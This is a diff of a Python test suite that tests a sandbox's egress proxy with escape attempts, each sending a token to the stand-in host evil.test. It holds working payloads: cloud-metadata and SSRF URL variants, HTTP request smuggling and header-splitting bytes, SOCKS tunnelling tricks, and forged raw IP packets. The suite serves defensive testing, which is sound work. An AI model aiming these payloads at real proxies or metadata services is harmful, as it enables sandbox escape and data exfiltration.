@@ -2,8 +2,8 @@
 attack below, one after the other. Whether one got through is told by the servers outside (test_network_attacks.py), by its
 token, or by where it came to.
 
-Allowed inside are good.test at the ports 80 and 443, and nothing else. An attack that speaks to the proxy speaks, where
-there is none, to the server itself: the bytes are such that it believes them.
+Allowed inside are good.test at the ports 80 and 443, and nothing else. Bare there is a proxy without rules where Cordon's is
+inside, and servers that forgive (tests/forgiving.py): an attack has to get through there by its own way.
 """
 import ctypes
 import os
@@ -18,6 +18,7 @@ METADATA = "169.254.169.254"
 PROXY = ("127.0.0.1", 1008)
 MPTCP, UDPLITE = 262, 136
 ATTACKS = {}
+OF_ROOT = {"raw_socket", "packets"}  # bare, nobody else can
 WAIT = 2  # seconds; what is refused is refused at once
 
 
@@ -70,13 +71,8 @@ def get(token, host=EVIL, extra=b""):
     return f"GET /{token} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n".encode() + extra + b"\r\n"
 
 
-def by_proxy(data, bare=EVIL, port=80):
-    """To the proxy; where there is none, to the server."""
-    try:
-        sock = connect(*PROXY)
-    except ConnectionRefusedError:
-        sock = connect(bare, port)
-    say(sock, data)
+def by_proxy(data):
+    say(connect(*PROXY), data)
 
 
 def to_good(port=80):
@@ -311,7 +307,7 @@ def two_questions(token):
                    ("meta_six", "http://[::ffff:169.254.169.254]/{}"), ("meta_dot", "http://169.254.169.254./{}"),
                    ("localhost", "http://localhost/{}"), ("loopback", "http://127.0.0.1/{}"),
                    ("loopback_dot", "http://localhost./{}"), ("zero", "http://0/{}"),
-                   ("itself", "http://127.0.0.1:1008/{}"), ("zone", "http://[fe80::1%25lo]/{}"),
+                   ("zone", "http://[fe80::1%25lo]/{}"),
                    ("user", "http://good.test@evil.test/{}"), ("user_port", "http://good.test:80@evil.test/{}"),
                    ("percent", "http://%65vil.test/{}"), ("backslash", "http://evil.test\\@good.test/{}")])
 def absolute(token, url):
@@ -331,10 +327,7 @@ def forward(token, host):
 
 
 def tunnel(token, target, inner):
-    try:
-        sock = connect(*PROXY)
-    except ConnectionRefusedError:
-        return say(connect(EVIL, 80), inner)
+    sock = connect(*PROXY)
     sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
     if sock.recv(1000).startswith(b"HTTP/1.1 200"):
         return say(sock, inner)
@@ -352,11 +345,7 @@ def tunnelled(token, target):
 
 @attack
 def tunnel_in_a_tunnel(token):
-    try:
-        connect(*PROXY).close()
-    except ConnectionRefusedError:
-        return say(connect(EVIL, 80), get(token))
-    return tunnel(token, "127.0.0.1:1008", b"CONNECT evil.test:80 HTTP/1.1\r\nHost: evil.test:80\r\n\r\n" + get(token))
+    tunnel(token, "127.0.0.1:1008", b"CONNECT evil.test:80 HTTP/1.1\r\nHost: evil.test:80\r\n\r\n" + get(token))
 
 
 @many("tunnel_fronts", [("host", get("{}", "evil.test")), ("absolute", b"GET http://evil.test/{} HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n")])
@@ -383,12 +372,9 @@ def socks_name(name):
                 ("decimal", socks_name(b"184549378")), ("nul", socks_name(b"evil.test\0.good.test")),
                 ("nul_first", socks_name(b"good.test\0evil.test")), ("loopback", b"\1" + socket.inet_aton("127.0.0.1")),
                 ("localhost", socks_name(b"localhost")), ("dot", socks_name(b"evil.test.")),
-                ("line", socks_name(b"evil.test\r\n")), ("empty", socks_name(b""))])
+                ("line", socks_name(b"evil.test\r\n"))])
 def by_socks(token, address):
-    try:
-        sock = connect(*PROXY)
-    except ConnectionRefusedError:
-        return say(connect(EVIL, 80), get(token))
+    sock = connect(*PROXY)
     sock.sendall(SOCKS_HELLO)
     sock.recv(2)
     sock.sendall(socks(address))
@@ -400,10 +386,6 @@ def by_socks(token, address):
 @attack
 def socks_of_an_older_kind(token):
     by_proxy(b"\4\1" + struct.pack(">H", 80) + socket.inet_aton(EVIL) + b"x\0" + get(token))
-    try:
-        connect(*PROXY).close()
-    except ConnectionRefusedError:
-        say(connect(EVIL, 80), get(token))
 
 
 # -- the good server, asked for another one's pages: it has them, too
@@ -533,14 +515,11 @@ def hello_behind_a_warning_goes_on(token):
                       ("hello_by_socks", SOCKS_HELLO + socks(socks_name(b"good.test"), 443))])
 def tunnel_says(token, ask):
     """The tunnel is to the good one, the hello in it names another."""
-    try:
-        sock = connect(*PROXY)
-        sock.sendall(ask)
-        sock.recv(1000)
-        if ask[0] == 5:
-            sock.recv(1000)
-    except ConnectionRefusedError:
-        sock = connect(GOOD, 443)
+    sock = connect(*PROXY)
+    sock.sendall(ask)
+    got = 0
+    while got < (12 if ask[0] == 5 else 1) and (answer := sock.recv(1000)):
+        got += len(answer)
     shake(sock, f"{token}.evil.test")
 
 
@@ -562,12 +541,6 @@ def then(token, second):
 def then_a_tunnel(token):
     by_proxy(b"GET http://good.test/first HTTP/1.1\r\nHost: good.test\r\n\r\n"
              b"CONNECT evil.test:80 HTTP/1.1\r\nHost: evil.test:80\r\n\r\n" + get(token))
-    bare_only(token)
-
-
-def bare_only(token):
-    """For what no server outside believes: that there is a way at all where nothing is in it."""
-    say(connect(EVIL, 80), get(token))
 
 
 CHUNKED = b"POST /first HTTP/1.1\r\nHost: good.test\r\nTransfer-Encoding: chunked\r\n\r\n"
@@ -583,7 +556,6 @@ SECOND = b"GET /{} HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"
 def chunk(token, body):
     """Where the first one ends is not where a forgiving server thinks."""
     say(to_good(), CHUNKED + body + SECOND.replace(b"{}", token.encode()))
-    bare_only(token)
 
 
 @many("framed", [("coding_twice", b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n"),
@@ -591,12 +563,11 @@ def chunk(token, body):
                  ("coding_x", b"Transfer-Encoding: xchunked\r\n"), ("coding_tab", b"Transfer-Encoding:\x0bchunked\r\n"),
                  ("coding_space", b"Transfer-Encoding : chunked\r\n"), ("coding_quoted", b'Transfer-Encoding: "chunked"\r\n'),
                  ("coding_folded", b"Transfer-Encoding:\r\n chunked\r\n"), ("coding_obs", b"Transfer-Encoding: \xa0chunked\r\n"),
-                 ("length_plus", b"Content-Length: +0\r\n"), ("length_list", b"Content-Length: 0, 70\r\n"),
-                 ("length_space", b"Content-Length : 70\r\n"), ("length_minus", b"Content-Length: -1\r\n"),
+                 ("length_plus", b"Content-Length: +5\r\n"), ("length_list", b"Content-Length: 5, 70\r\n"),
+                 ("length_space", b"Content-Length : 5\r\n"), ("length_minus", b"Content-Length: -1\r\n"),
                  ("length_return", b"X: a\rContent-Length: 70\r\n")])
 def framed(token, fields):
     say(to_good(), b"POST /first HTTP/1.1\r\nHost: good.test\r\n" + fields + b"\r\n0\r\n\r\n" + SECOND.replace(b"{}", token.encode()))
-    bare_only(token)
 
 
 @many("split", [("return", b"X: a\rHost: evil.test\r\n"), ("nel", b"X: a\xc2\x85Host: evil.test\r\n"), ("obs", b"X: a\x85Host: evil.test\r\n"),
@@ -606,7 +577,6 @@ def framed(token, fields):
 def split(token, field):
     """What some servers take for the end of a line. The first event tells which host that server understood."""
     say(to_good(), f"GET /{token}-asks HTTP/1.1\r\n".encode() + field + b"Host: good.test\r\nConnection: close\r\n\r\n")
-    bare_only(token)
 
 
 @many("line", [("obs", b"GET /{}\x85HTTP/1.1\r\nHost: evil.test\r\n\r\n"), ("tab", b"GET\t/{}\tHTTP/1.1\r\nHost: evil.test\r\n\r\n"),
@@ -614,20 +584,15 @@ def split(token, field):
                ("old", b"GET /{}\r\n"), ("lower", b"get /{} http/1.1\r\nhost: evil.test\r\n\r\n"), ("high", b"GET /{} HTTP/1.9\r\nHost: evil.test\r\n\r\n")])
 def line(token, data):
     say(to_good(), data.replace(b"{}", token.encode()))
-    bare_only(token)
 
 
-@many("http2", [("port_80", lambda: to_good()), ("proxy", lambda: connect(*PROXY))])
-def http2_without_asking(token, way):
+@attack
+def http2_without_asking(token):
     """Who is asked is written in a way of its own."""
     path = f"/{token}".encode()
     fields = b"\x82\x86\x44" + bytes([len(path)]) + path + b"\x41\x09evil.test"
     data = (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0" + struct.pack(">I", len(fields))[1:] + b"\1\5\0\0\0\1" + fields)
-    try:
-        sock = way()
-    except ConnectionRefusedError:
-        sock = connect(EVIL, 80)
-    say(sock, data)
+    say(to_good(), data)
 
 
 @many("pool", [("first", "198.18.0.1"), ("second", "198.18.0.2"), ("zero", "198.18.0.0"), ("last", "198.19.255.255"),
@@ -640,7 +605,6 @@ def pool(token, address):
         except OSError:
             pass
     tunnel(token, f"{address}:80", get(token))
-    bare_only(token)
 
 
 @many("itself", [("six", ("::1", 1008)), ("other", ("127.9.9.9", 1008)), ("number", (EVIL, 1008)), ("dns", ("127.0.0.1", 1009))])
@@ -655,21 +619,27 @@ def itself(token, where):
             finish_datagram(sock)
         except OSError:
             pass
-    bare_only(token)
 
 
-@many("socks_does", [("bind", 2), ("associate", 3), ("resolve", 0xf0), ("pointer", 0xf1)])
-def socks_does(token, command):
-    try:
-        sock = connect(*PROXY)
-        sock.sendall(SOCKS_HELLO)
-        sock.recv(2)
-        sock.sendall(bytes([5, command, 0]) + socks_name(f"{token}.evil.test".encode()) + b"\0\7")
-        if sock.recv(100)[1:2] == b"\0":
-            say(sock, get(token))
-    except OSError:
-        pass
-    bare_only(token)
+@attack
+def socks_resolves(token):
+    """As Tor's does."""
+    by_proxy(SOCKS_HELLO + bytes([5, 0xf0, 0]) + socks_name(f"{token}.evil.test".encode()) + b"\0\7")
+
+
+@attack
+def socks_associates(token):
+    """A relay for datagrams."""
+    sock = connect(*PROXY)
+    sock.sendall(SOCKS_HELLO)
+    sock.recv(2)
+    sock.sendall(b"\5\3\0\1" + bytes(6))
+    answer = sock.recv(10)
+    relay = connect(socket.inet_ntoa(answer[4:8]), *struct.unpack(">H", answer[8:10]), socket.SOCK_DGRAM)
+    relay.settimeout(0.5)
+    relay.send(b"\0\0\0\1" + socket.inet_aton(EVIL) + b"\0\7" + token.encode())
+    finish_datagram(relay)
+    finish(sock)
 
 
 @attack
@@ -697,32 +667,26 @@ def unix(token, name):
     say(sock, token.encode())
 
 
-@many("kind", [("sctp", 132), ("dccp", 33), ("raw", 17)])
-def other_kinds(token, protocol):
-    """A datagram, or a stream, made by hand."""
-    try:
-        if protocol == 17:
-            sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol)
-            sock.sendto(struct.pack(">HHHH", 1234, 7, 8 + len(token), 0) + token.encode(), (EVIL, 0))
-        else:
-            say(connect(EVIL, 80, protocol=protocol), get(token))
-    except OSError:
-        pass
-    bare_only(token)
+def datagram_of_the_wire(token):
+    payload = token.encode()
+    return struct.pack(">HHHH", 1234, 7, 8 + len(payload), 0) + payload
+
+
+@attack
+def raw_socket(token):
+    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
+    sock.sendto(datagram_of_the_wire(token), (EVIL, 0))
 
 
 @attack
 def packets(token):
-    """A whole frame to the device."""
-    try:
-        payload = token.encode()
-        udp = struct.pack(">HHHH", 1234, 7, 8 + len(payload), 0) + payload
-        head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton(GOOD), socket.inet_aton(EVIL))
-        sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0x0800)
-        sock.sendto(head + udp, ("lo", 0x0800))
-    except OSError:
-        pass
-    bare_only(token)
+    """A whole frame to the device, from somewhere else."""
+    udp = datagram_of_the_wire(token)
+    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, bytes(4 * [9]), socket.inet_aton(EVIL))
+    total = sum(struct.unpack(">10H", head))
+    head = head[:10] + struct.pack(">H", ~(total + (total >> 16)) & 0xffff) + head[12:]
+    sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0x0800)
+    sock.sendto(head + udp, ("lo", 0x0800))
 
 
 @attack
@@ -734,7 +698,7 @@ def reset_before_the_first_byte(token):
         sock.setblocking(False)
         sock.connect_ex((EVIL, 80))
         sock.close()
-    bare_only(token)
+    say(connect(EVIL, 80), get(token))
 
 
 @attack
